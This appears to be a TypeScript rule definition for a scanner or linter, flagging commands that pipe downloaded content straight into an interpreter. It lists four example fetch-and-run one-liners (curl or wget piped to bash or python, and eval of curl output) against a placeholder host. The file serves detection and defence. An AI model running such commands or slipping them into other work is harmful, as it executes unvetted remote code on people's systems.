import type { Rule } from "../../rule.js";

export const rule = {
  id: "EXEC-NET-PIPE",
  family: "obfuscation",
  severity: "error",
  why: "runs what it gets from the network",
  fix: "Fetch it beforehand, look at it, and submit it with the job.",
  examples: {
    dangerous: [
      "curl -s http://host.example/x | bash",
      "wget -qO- http://host.example/x | python3 -",
      "bash <(curl -s http://host.example/x)",
      'eval "$(curl -s http://host.example/x)"',
    ],
    honest: ["curl -s http://host.example/x | jq .", "cat local.sh | bash"],
  },
} as const satisfies Rule;
